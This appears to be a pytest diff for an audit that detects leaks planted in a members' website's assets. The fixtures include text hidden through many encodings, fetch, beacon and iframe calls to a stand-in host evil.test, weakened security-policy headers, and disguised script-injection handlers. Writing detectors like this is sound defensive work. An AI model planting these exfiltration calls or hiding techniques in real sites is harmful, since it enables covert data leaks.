@@ -1,0 +1,363 @@
+"""A hidden text is found in whatever form it stands, and so is a page that has lost its guards.
+
+All rows are planted together, each as a file of its own below ``assets/`` of the members' site, and
+looked at by one audit.
+"""
+
+from __future__ import annotations
+
+import base64
+import bz2
+import gzip
+import hashlib
+import io
+import json
+import lzma
+import quopri
+import struct
+import tarfile
+import zipfile
+import zlib
+from collections.abc import Callable
+from urllib.parse import quote
+
+import pytest
+
+from audit.association import FACILITATOR, MEMBER, SENTENCE, Association, copied
+from audit.test_planted_leaks import HEAD, POLICY, archive, page, pdf
+from parution.audit import Kind, Leak
+
+WRAPPED = SENTENCE.replace(" ", "\n")
+BASE64 = base64.b64encode(SENTENCE.encode()).decode()
+DEFLATED = zlib.compress(SENTENCE.encode())
+PNG = b"\x89PNG\r\n\x1a\n"
+
+CYRILLIC = str.maketrans(dict(zip("aceopxy", "асеорху", strict=True)))
+GREEK = str.maketrans(dict(zip("ovaei", "ονάει", strict=True)))
+CAPITALS = str.maketrans(dict(zip("EATHOC", "ΕΑΤΗΟС", strict=True)))
+
+
+def chunk(kind: bytes, data: bytes) -> bytes:
+    checked = kind + data
+    return struct.pack(">I", len(data)) + checked + struct.pack(">I", zlib.crc32(checked))
+
+
+def png(*chunks: bytes, after: bytes = b"") -> bytes:
+    """Return a picture of one point with other chunks, and bytes after its end."""
+    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
+    point = chunk(b"IDAT", zlib.compress(b"\0\0"))
+    return PNG + head + b"".join(chunks) + point + chunk(b"IEND", b"") + after
+
+
+def jpeg(remark: bytes) -> bytes:
+    """Return a picture that has a remark as cameras write it."""
+    said = b"Exif\0\0II*\0\x08\0\0\0\x01\0" + remark
+    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(said) + 2) + said + b"\xff\xd9"
+
+
+def font(signature: bytes, table: bytes) -> bytes:
+    return signature + b"\0\x01\0\0\0\0\0\0name" + bytes(16) + table
+
+
+def zipped(name: str, data: bytes) -> bytes:
+    written = io.BytesIO()
+    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as file:
+        file.writestr(name, data)
+    return written.getvalue()
+
+
+def tarred(data: bytes) -> bytes:
+    written = io.BytesIO()
+    with tarfile.open(fileobj=written, mode="w:xz") as file:
+        member = tarfile.TarInfo("x.txt")
+        member.size = len(data)
+        file.addfile(member, io.BytesIO(data))
+    return written.getvalue()
+
+
+def mail(text: str) -> bytes:
+    return quopri.encodestring(text.encode())
+
+
+def codes(form: str, text: str = SENTENCE) -> str:
+    return "".join(form.format(ord(letter)) for letter in text)
+
+
+def octets(form: str, text: str = SENTENCE) -> str:
+    return "".join(form.format(octet) for octet in text.encode())
+
+
+def spelled(between: str) -> str:
+    """Return the sentence with something in the middle of every longer word."""
+    return " ".join(
+        f"{word[:3]}{between}{word[3:]}" if len(word) > 4 else word for word in SENTENCE.split()
+    )
+
+
+PLAIN: dict[str, bytes] = {
+    "utf-16 with a mark.txt": SENTENCE.encode("utf-16"),
+    "utf-16-le.txt": SENTENCE.encode("utf-16-le"),
+    "utf-16-be.txt": SENTENCE.encode("utf-16-be"),
+    "utf-16-be with a mark.txt": b"\xfe\xff" + SENTENCE.encode("utf-16-be"),
+    "utf-32.txt": SENTENCE.encode("utf-32"),
+    "utf-32-be.txt": SENTENCE.encode("utf-32-be"),
+    "Windows' letters.txt": SENTENCE.encode("cp1252"),
+    "letters read byte by byte.txt": SENTENCE.encode().decode("cp1252").encode(),
+    "escaped bytes.js": octets(r"\x{:02x}").encode(),
+    "escaped in octal.js": octets(r"\{:03o}").encode(),
+    "escaped letters.js": codes(r"\x{:02x}", SENTENCE.replace("’", " ")).encode(),
+    "escaped code points.js": codes(r"\u{{{:x}}}").encode(),
+    "escaped twice.js": json.dumps(json.dumps(SENTENCE)).encode(),
+    "escaped in a style.css": codes(r"\{:x} ").encode(),
+    "in a style.css": f'p:after{{content:"{SENTENCE}"}}'.encode(),
+    "in rich text.rtf": (
+        b"{\\rtf1 " + SENTENCE.encode("cp1252").replace(b"\xe9", rb"\'e9")
+    ),
+    "Base64.txt": BASE64.encode(),
+    "Base64 for addresses.txt": base64.urlsafe_b64encode(SENTENCE.encode()).rstrip(b"="),
+    "Base64 behind other letters.js": f'x="/a/{BASE64}"'.encode(),
+    "Base64 in lines.txt": base64.encodebytes(SENTENCE.encode() * 2),
+    "Base64 of utf-16.txt": base64.b64encode(SENTENCE.encode("utf-16-le")),
+    "Base64 of gzip.json": base64.b64encode(gzip.compress(SENTENCE.encode())),
+    "Base64 twice.txt": base64.b64encode(BASE64.encode()),
+    "hexadecimal.txt": SENTENCE.encode().hex().encode(),
+    "hexadecimal in capitals.txt": SENTENCE.encode().hex(" ").upper().encode(),
+    "hexadecimal for C.txt": octets("0x{:02x}, ").encode(),
+    "numbers of bytes.js": f"x=[{','.join(map(str, SENTENCE.encode()))}]".encode(),
+    "numbers of letters.js": f"String.fromCharCode({codes('{}, ')}32)".encode(),
+    "percent signs twice.txt": quote(quote(SENTENCE)).encode(),
+    "quoted-printable.txt": mail(SENTENCE),
+    "entities three times.txt": codes("&amp;amp;#{};").encode(),
+    "zlib.bin": DEFLATED,
+    "gzip.bin": gzip.compress(SENTENCE.encode()),
+    "gzip twice.bin": gzip.compress(gzip.compress(SENTENCE.encode())),
+    "two gzip files in one.bin": gzip.compress(b"x") + gzip.compress(SENTENCE.encode()),
+    "bzip2.bin": bz2.compress(SENTENCE.encode()),
+    "xz.bin": lzma.compress(SENTENCE.encode()),
+    "lzma.bin": lzma.compress(SENTENCE.encode(), format=lzma.FORMAT_ALONE),
+    "a packed archive.bin": tarred(SENTENCE.encode()),
+    "zip in zip.zip": zipped("a.zip", archive(SENTENCE)),
+    "a PDF in zip.zip": zipped("a.pdf", pdf(SENTENCE)),
+    "a name in zip.zip": zipped(SENTENCE, b"x"),
+    "a remark in a picture.png": png(chunk(b"tEXt", b"Comment\0" + SENTENCE.encode("cp1252"))),
+    "a packed remark in a picture.png": png(chunk(b"zTXt", b"Comment\0\0" + DEFLATED)),
+    "a packed remark in utf-8.png": png(chunk(b"iTXt", b"Comment\0\1\0fr\0\0" + DEFLATED)),
+    "a remark of a camera in a picture.png": png(chunk(b"eXIf", SENTENCE.encode("utf-16-le"))),
+    "behind a picture.png": png(after=archive(SENTENCE)),
+    "a remark of a camera.jpg": jpeg(SENTENCE.encode("utf-16-le")),
+    "a remark of another camera.jpg": jpeg(b"UNICODE\0" + SENTENCE.encode("utf-16-be")),
+    "packed in a sound.mp3": b"ID3\3\0\0\0" + bytes(20) + DEFLATED,
+    "a name in a font.ttf": font(b"\0\1\0\0", SENTENCE.encode("utf-16-be")),
+    "a name in a packed font.woff": font(b"wOFF", zlib.compress(SENTENCE.encode("utf-16-be"))),
+    "one word a line.txt": WRAPPED.encode(),
+    "one word a line, of Windows.txt": WRAPPED.replace("\n", "\r\n").encode(),
+    "three words a line.txt": "\n\n".join(
+        " ".join(SENTENCE.split()[at : at + 3]) for at in range(0, 30, 3)
+    ).encode(),
+    "one word a string.json": json.dumps(SENTENCE.split(), indent=1).encode(),
+    "zero-width signs.txt": spelled("\u200b").encode(),
+    "other unseen signs.txt": spelled("\u2063\ufe0f\u034f\u180e\u202e").encode(),
+    "unseen signs as entities.txt": spelled("&ZeroWidthSpace;&#8203;&shy;").encode(),
+    "Cyrillic letters.txt": SENTENCE.translate(CYRILLIC).encode(),
+    "Greek letters.txt": SENTENCE.translate(GREEK).encode(),
+    "foreign capitals.txt": SENTENCE.upper().translate(CAPITALS).encode(),
+    "wide letters.txt": SENTENCE.translate({n: n + 0xFEE0 for n in range(0x61, 0x7B)}).encode(),
+    "letters for formulas.json": json.dumps(
+        SENTENCE.translate({n: n - 0x61 + 0x1D41A for n in range(0x61, 0x7B)})
+    ).encode(),
+    "small capitals.txt": SENTENCE.replace("a", "\u1d00").replace("e", "\u1d07").encode(),
+    "the description of a drawing.svg": f"<svg><desc>{SENTENCE}</desc></svg>".encode(),
+    "the title of a drawing.svg": f'<svg aria-label="{SENTENCE}"/>'.encode(),
+}  # fmt: skip
+"""Files that say a sentence of the dossier."""
+
+WITHIN_PAGES: dict[str, str] = {
+    "tags inside words": spelled("<b></b>"),
+    "tags with attributes inside words": spelled('<span class="x y">'),
+    "a comment inside words": spelled("<!-- -->"),
+    "a break inside words": f"<p>x</p><div>{spelled('<wbr>')}</div><p>y</p>",
+    "every letter in a tag": "".join(
+        f"<i>{letter}</i>" if letter != " " else " " for letter in SENTENCE
+    ),
+    "one word a tag": "".join(f"<li>{word}</li>" for word in SENTENCE.split()),
+    "one word a paragraph": "\n".join(f"<p>\n{word}\n</p>" for word in SENTENCE.split()),
+    "one word an attribute": "".join(
+        f'<i class="x" data-a="{word}"></i>' for word in SENTENCE.split()
+    ),
+    "an attribute over lines": f'<p title="{WRAPPED}">x</p>',
+    "a comment over lines": f"<!--\n{WRAPPED}\n-->",
+    "Base64 in an attribute": f'<p data-a="{BASE64}">x</p>',
+    "in a drawing": f"<svg><desc>{SENTENCE}</desc></svg>",
+    "in a style": f"<style>p:after{{content:'{SENTENCE}'}}</style>",
+    "in a template": f"<template>{SENTENCE}</template>",
+    "in a field": f'<input type="hidden" value="{SENTENCE}">',
+}
+"""What pages may hold of a sentence of the dossier."""
+
+REQUESTS: dict[str, bytes] = {
+    "fetch.js": b"fetch('https://evil.test/x')",
+    "fetch from a variable.js": b'const a = "https://evil.test/x"; fetch(a)',
+    "fetch without a scheme.js": b"fetch(`//evil.test/${x}`)",
+    "an import.js": b'import x from "https://evil.test/x.js"',
+    "an import while it runs.js": b"await import('https://evil.test/x.js')",
+    "what a worker imports.js": b'importScripts("https://evil.test/x.js")',
+    "a beacon.js": b'navigator.sendBeacon("https:\\/\\/evil.test/x", "")',
+    "a socket.js": b'new WebSocket("wss://evil.test")',
+    "a stream of events.js": b'new EventSource("HTTPS://evil.test")',
+    "a picture.js": b"new Image().src = '\\x68ttps://evil.test/x'",
+    "a module.mjs": b'export * from "https://evil.test/x.js"',
+    "an icon.webmanifest": b'{"icons": [{"src": "https://evil.test/x.png"}]}',
+    "a style sheet of a drawing.svg": b'<?xml-stylesheet href="https://evil.test/x.css"?><svg/>',
+    "a picture of a drawing.svg": b'<svg><image href="https://evil.test/x.png"/></svg>',
+    "an address that all others start from.html": page('<base href="https://evil.test/">'),
+    "a connection ahead.html": page('<link rel="dns-prefetch" href="//evil.test">'),
+    "a page within.html": page('<iframe src="https://evil.test"></iframe>'),
+    "a form.html": page('<form action="https://evil.test"></form>'),
+    "another page after a while.html": page(
+        '<meta http-equiv="refresh" content="0;url=https://evil.test">'
+    ),
+    "an import of a style.html": page("<style>@import 'https://evil.test/x.css'</style>"),
+}  # fmt: skip
+"""Files that ask something of another host."""
+
+ALL_OTHERS = HEAD.removeprefix(POLICY)
+"""Guards without a policy."""
+
+UNGUARDED: dict[str, str] = {
+    "no policy": ALL_OTHERS,
+    "a policy in a comment": f"<!-- {POLICY} -->{ALL_OTHERS}",
+    "a policy that comes late": f'<script src="x.js"></script>{HEAD}',
+    "a policy that lets in scripts": HEAD.replace("style-src", "script-src"),
+    "a policy that lets in hosts": HEAD.replace("img-src", "img-src https:"),
+    "a policy that reports": HEAD.replace("img-src", "report-uri https://evil.test; img-src"),
+    "a policy for reports alone": HEAD.replace("Security-Policy", "Security-Policy-Report-Only"),
+    "a policy without a rule": HEAD.replace("default-src", "img-src"),
+    "a policy that an earlier one undoes": f"{POLICY.replace('self', 'unsafe-inline')}{HEAD}",
+    "a second referrer": f'{HEAD}<meta name="referrer" content="unsafe-url">',
+    "a second referrer in capitals": f'{HEAD}<META NAME="Referrer" CONTENT="origin">',
+    "a referrer in a comment": HEAD.replace('<meta name="referrer"', '<!-- <meta name="referrer"'),
+    "a referrer for one link": f'{HEAD}<link referrerpolicy="unsafe-url" rel="icon" href="x">',
+    "a second word to robots": f'{HEAD}<meta name="googlebot" content="all">',
+}
+"""Heads of pages that are not guarded."""
+
+PROGRAMS: dict[str, bytes] = {
+    "an inline script.html": page("<script>x()</script>"),
+    "an inline module.html": page('<script type="module">import "./x.js"</script>'),
+    "a script in a drawing.html": page("<svg><script>x()</script></svg>"),
+    "a script in the data.html": page('<script id="__config">x()</script>'),
+    "a script in its address.html": page('<script src="data:text/javascript,x()"></script>'),
+    "an event handler.html": page('<img src="x" onerror="x()">'),
+    "an event handler without quotes.html": page("<body/onload=x()>"),
+    "an event handler in capitals.html": page("<p ONCLICK = 'x()'>"),
+    "a program in a link.html": page('<a href="javascript:x()">x</a>'),
+    "a disguised program in a link.html": page('<a href=" java\nscript&colon;x()">x</a>'),
+    "a program in a form.html": page('<form action="javascript:x()"></form>'),
+    "a page within.html": page('<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>'),
+    "a drawing.svg": b"<svg><script>x()</script></svg>",
+    "a drawing with an event handler.svg": b'<svg onload="x()"/>',
+    "a drawing with a link.svg": b'<svg><a xlink:href="javascript:x()"/></svg>',
+    "a feed.xml": b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">x()</x:script>',
+}
+"""Files into which a program is written."""
+
+UNREADABLE: dict[str, bytes] = {
+    "packed in an unknown way.br": bytes.fromhex(
+        "1b6e00e02fdbc6b05db0c5d1e0dc2e4d8fa7a2c4c3a0c4e7"
+    ),
+    "numbers.bin": bytes(range(256)),
+    "packed once too often.bin": gzip.compress(gzip.compress(gzip.compress(gzip.compress(
+        gzip.compress(gzip.compress(SENTENCE.encode())))))),
+    "broken.zip": archive(SENTENCE)[:-40],
+    "broken xz.bin": lzma.compress(SENTENCE.encode())[:-20],
+}  # fmt: skip
+"""Files that nobody can look into."""
+
+ROWS: dict[str, tuple[bytes, Kind]] = {
+    **{name: (data, Kind.HIDDEN_TEXT) for name, data in PLAIN.items()},
+    **{f"{name}.html": (page(text), Kind.HIDDEN_TEXT) for name, text in WITHIN_PAGES.items()},
+    **{f"asks/{name}": (data, Kind.THIRD_PARTY) for name, data in REQUESTS.items()},
+    **{f"{name}.html": (page("x", head), Kind.UNGUARDED) for name, head in UNGUARDED.items()},
+    **{f"runs/{name}": (data, Kind.SCRIPT) for name, data in PROGRAMS.items()},
+    **{name: (data, Kind.UNREADABLE) for name, data in UNREADABLE.items()},
+}
+
+SPLIT: dict[str, Callable[[str], bytes]] = {
+    "in capitals.txt": lambda letters: letters.upper().encode(),
+    "in Base64.txt": lambda letters: base64.b64encode(letters.encode()),
+    "in hexadecimal.txt": lambda letters: letters.encode().hex().encode(),
+    "in utf-16.txt": lambda letters: letters.encode("utf-16-le"),
+    "put together.js": lambda letters: f'x = "{letters[:9]}" + "{letters[9:]}"'.encode(),
+    "with gaps.txt": lambda letters: " ".join(letters).encode(),
+    "with dashes.txt": lambda letters: f"{letters[:12]}-{letters[12:]}".encode(),
+    "with a tag.html": lambda letters: page(f"{letters[:9]}<b class='x'>{letters[9:]}</b>"),
+    "with unseen signs.txt": lambda letters: "\u200b".join(letters).encode(),
+}
+"""Ways in which a file may tell random letters."""
+
+SECRET_ALONE: dict[str, Callable[[str], bytes]] = {
+    "over lines.txt": lambda letters: f"{letters[:9]}\n{letters[9:]}".encode(),
+}
+
+
+@pytest.fixture(scope="module")
+def leaks(built: Association, tmp_path_factory: pytest.TempPathFactory) -> tuple[Leak, ...]:
+    """What one audit finds in a site in which everything was planted."""
+    association = copied(built, tmp_path_factory.mktemp("disguises"))
+    planted = {name: data for name, (data, _) in ROWS.items()}
+    secret = association.store.secret().decode()
+    other = association.folder(FACILITATOR).name.rpartition("-")[2]
+    for name, told_by in (SPLIT | SECRET_ALONE).items():
+        planted[f"secret/{name}"] = told_by(secret)
+    for name, told_by in SPLIT.items():
+        planted[f"token/{name}"] = told_by(other)
+    for name, data in planted.items():
+        path = association.folder(MEMBER) / "assets" / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(data)
+    return association.leaks()
+
+
+@pytest.mark.parametrize("name", ROWS)
+def test_a_disguise_is_seen_through(leaks: tuple[Leak, ...], name: str) -> None:
+    """Whatever form a leak has, it is found as one of its kind."""
+    assert ROWS[name][1] in {leak.kind for leak in leaks if leak.file == f"assets/{name}"}
+
+
+@pytest.mark.parametrize("name", SPLIT | SECRET_ALONE)
+def test_the_secret_is_known_in_pieces(leaks: tuple[Leak, ...], name: str) -> None:
+    """The master secret is found in code and in pieces, and never repeated."""
+    found = [leak for leak in leaks if leak.file == f"assets/secret/{name}"]
+    assert Kind.SECRET in {leak.kind for leak in found}
+    assert not any(leak.evidence for leak in found)
+
+
+@pytest.mark.parametrize("name", SPLIT)
+def test_an_address_is_known_in_pieces(leaks: tuple[Leak, ...], name: str) -> None:
+    """The address of another site is found in code and in pieces, and never repeated."""
+    found = [leak for leak in leaks if leak.file == f"assets/token/{name}"]
+    assert Kind.OTHER_SITE in {leak.kind for leak in found}
+    assert not any(leak.evidence for leak in found)
+
+
+HARMLESS: dict[str, bytes] = {
+    "data.html": page('<script id="__config" type="application/json">{"base": "./"}</script>'),
+    "a script of the site.html": page('<script src="../assets/x.js" type="module"></script>'),
+    "a stricter policy.html": page("x", HEAD.replace("default-src 'self'", "default-src 'none'")),
+    "words that begin as handlers do.html": page('<p class="on" title="on verra = oui">x</p>'),
+    "a namespace.js": b'x = "http://www.w3.org/2000/svg"',
+    "an address of the site.js": b'x = "https://dossiers.example.org/x"; // see "https" //x',
+    "a picture.png": png(chunk(b"iTXt", b"Comment\0\1\0fr\0\0" + zlib.compress(b"rien"))),
+    "digests.json": json.dumps([hashlib.sha256(bytes(n)).hexdigest() for n in range(9)]).encode(),
+    "Windows' letters.txt": "déjà vu".encode("cp1252"),
+    "a style.css": b'p{background:url("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB")}',
+}  # fmt: skip
+
+
+def test_what_only_looks_like_a_leak_is_none(association: Association) -> None:
+    """Data, scripts in files, pictures, digests and names of languages are let through."""
+    folder = association.folder(MEMBER) / "assets"
+    folder.mkdir(exist_ok=True)
+    for name, data in HARMLESS.items():
+        (folder / name).write_bytes(data)
+    assert association.leaks() == ()
